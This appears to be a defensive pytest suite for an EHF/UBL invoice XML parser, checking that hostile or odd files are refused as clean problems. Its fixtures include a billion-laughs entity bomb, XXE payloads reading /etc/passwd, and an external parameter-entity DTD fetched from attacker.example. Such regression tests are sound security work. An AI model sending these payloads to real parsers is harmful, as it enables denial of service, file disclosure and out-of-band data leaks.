"""Hostile and odd XML: each refusal is one clear Problem naming the file, never an exception."""

from __future__ import annotations

import time

import pytest

from bilag.domain.document import IncomingDocument
from bilag.domain.model import DocumentType
from bilag.domain.problems import ProblemCode
from parsers.base import ParseContext
from parsers.ehf.parser import EhfParser

UBL = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"
BIS3 = "urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0"


def minimal_invoice(number: str = "1", *, declaration: str = '<?xml version="1.0"?>') -> str:
    return (
        f'{declaration}<Invoice xmlns="{UBL}" xmlns:cbc="{CBC}">'
        f"<cbc:CustomizationID>{BIS3}</cbc:CustomizationID>"
        f"<cbc:ID>{number}</cbc:ID><cbc:IssueDate>2026-10-01</cbc:IssueDate>"
        "<cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>"
        "<cbc:DocumentCurrencyCode>NOK</cbc:DocumentCurrencyCode></Invoice>"
    )


def parse(content: bytes, name: str = "inbox/hostile.xml", **ctx: int):
    return EhfParser().parse(IncomingDocument(name=name, content=content), ParseContext(**ctx))


def only_problem(content: bytes, **ctx: int):
    outcome = parse(content, **ctx)
    assert outcome.invoices == ()
    assert len(outcome.problems) == 1
    problem = outcome.problems[0]
    assert problem.source == "inbox/hostile.xml"
    assert "\n" not in problem.message
    return problem


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol9;</Invoice>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
<cbc:ID>&xxe;</cbc:ID></Invoice>"""

PARAMETER_ENTITY_OOB = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, XXE, PARAMETER_ENTITY_OOB],
    ids=["billion-laughs", "xxe-file", "parameter-entity-network"],
)
def test_entity_declarations_are_refused_before_parsing(content: bytes):
    problem = only_problem(content)
    assert problem.code == ProblemCode.XML_ENTITY
    assert "DOCTYPE" in problem.message


def test_a_doctype_hidden_in_utf16_is_refused_too():
    problem = only_problem(XXE.decode().replace('<?xml version="1.0"?>', "").encode("utf-16"))
    assert problem.code == ProblemCode.XML_ENTITY


def test_a_file_over_the_size_limit_is_refused_without_building_a_tree():
    big = minimal_invoice().encode() + b" " * (200 * 1024 * 1024)
    started = time.perf_counter()
    problem = only_problem(big)
    elapsed = time.perf_counter() - started
    assert problem.code == ProblemCode.TOO_LARGE
    assert "200.0 MiB" in problem.message and "50 MiB" in problem.message
    assert elapsed < 1.0, "a refusal by size must not parse the 200 MB"


def test_the_size_limit_comes_from_the_parse_context():
    problem = only_problem(minimal_invoice().encode(), max_xml_bytes=100)
    assert problem.code == ProblemCode.TOO_LARGE


def test_a_truncated_file_is_malformed_with_line_and_column():
    text = minimal_invoice().replace("><", ">\n<")
    problem = only_problem(text[: len(text) // 2].encode())
    assert problem.code == ProblemCode.XML_MALFORMED
    assert "line " in problem.message and "column " in problem.message


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (
            b'<?xml version="1.0"?><Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:'
            b'Order-2"><ID>1</ID></Order>',
            "Order",
        ),
        (b"<catalog><book>Sult</book></catalog>", "catalog (no namespace)"),
        (b"<Invoice><ID>1</ID></Invoice>", "Invoice (no namespace)"),
        (
            b'<StandardBusinessDocument xmlns="http://www.unece.org/cefact/namespaces/'
            b'StandardBusinessDocumentHeader"><StandardBusinessDocumentHeader/>'
            b"</StandardBusinessDocument>",
            "holds no invoice",
        ),
        (
            b'<StandardBusinessDocument xmlns="http://www.unece.org/cefact/namespaces/'
            b'StandardBusinessDocumentHeader"><StandardBusinessDocumentHeader/>'
            b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>'
            b"</StandardBusinessDocument>",
            "holds Order",
        ),
    ],
    ids=["ubl-order", "random-xml", "invoice-without-namespace", "sbdh-only", "sbdh-order"],
)
def test_a_wrong_root_element_is_named_in_the_refusal(content: bytes, expected: str):
    problem = only_problem(content)
    assert problem.code == ProblemCode.XML_WRONG_ROOT
    assert expected in problem.message


def test_an_empty_file_is_refused():
    assert only_problem(b"  \n").code == ProblemCode.EMPTY_FILE


@pytest.mark.parametrize(
    "content",
    [
        minimal_invoice("Blåbærsyltetøy-1").encode("utf-8"),
        b"\xef\xbb\xbf" + minimal_invoice("Blåbærsyltetøy-1").encode("utf-8"),
        minimal_invoice(
            "Blåbærsyltetøy-1", declaration='<?xml version="1.0" encoding="ISO-8859-1"?>'
        ).encode("latin-1"),
        minimal_invoice(
            "Blåbærsyltetøy-1", declaration='<?xml version="1.0" encoding="UTF-16"?>'
        ).encode("utf-16"),
        b"\xff\xfe" + minimal_invoice("Blåbærsyltetøy-1", declaration="").encode("utf-16-le"),
    ],
    ids=["utf-8", "utf-8-bom", "iso-8859-1", "utf-16-bom", "utf-16-le-bom-no-declaration"],
)
def test_declared_and_marked_encodings_are_read_correctly(content: bytes):
    outcome = parse(content)
    assert outcome.problems == ()
    (invoice,) = outcome.invoices
    assert invoice.invoice_number == "Blåbærsyltetøy-1"
    assert invoice.document_type is DocumentType.INVOICE


def test_bytes_that_lie_about_their_encoding_are_malformed_not_mojibake():
    content = minimal_invoice("Blåbær").encode("latin-1")  # declares nothing: UTF-8 assumed
    problem = only_problem(content)
    assert problem.code == ProblemCode.XML_MALFORMED


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.7\n1 0 obj", b"\x89PNG\r\n\x1a\n", b"From: a@b\r\n\r\nhei", b"", b"plain text"],
    ids=["pdf", "png", "mail", "empty", "text"],
)
def test_score_declines_what_is_not_xml(content: bytes):
    assert EhfParser().score(IncomingDocument(name="x", content=content)) is None


def test_score_prefers_ubl_over_other_xml():
    parser = EhfParser()
    ubl = parser.score(IncomingDocument(name="a.xml", content=minimal_invoice().encode("utf-16")))
    other = parser.score(IncomingDocument(name="b.xml", content=b"<?xml version='1.0'?><a/>"))
    assert ubl is not None and other is not None and ubl > other


def test_a_doctype_behind_comments_and_processing_instructions_is_refused():
    prolog = b'<?xml version="1.0"?>\n<!-- ' + b"x" * 100_000 + b" -->\n<?pi data?>\n"
    problem = only_problem(prolog + XXE.split(b"?>", 1)[1])
    assert problem.code == ProblemCode.XML_ENTITY


def test_a_doctype_after_the_root_element_is_malformed_not_obeyed():
    content = minimal_invoice().encode() + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    assert only_problem(content).code == ProblemCode.XML_MALFORMED


def test_markup_quoted_as_text_is_data_not_a_declaration():
    quoted = "<![CDATA[<!DOCTYPE is how XXE starts]]>"
    content = minimal_invoice("1").replace("<cbc:ID>1</cbc:ID>", f"<cbc:ID>{quoted}</cbc:ID>")
    (invoice,) = parse(content.encode()).invoices
    assert invoice.invoice_number == "<!DOCTYPE is how XXE starts"


def test_absurdly_deep_nesting_is_malformed_not_a_crash():
    depth = 100_000
    inner = "<a>" * depth + "</a>" * depth
    content = minimal_invoice().replace("</Invoice>", f"<x>{inner}</x></Invoice>").encode()
    assert only_problem(content).code == ProblemCode.XML_MALFORMED
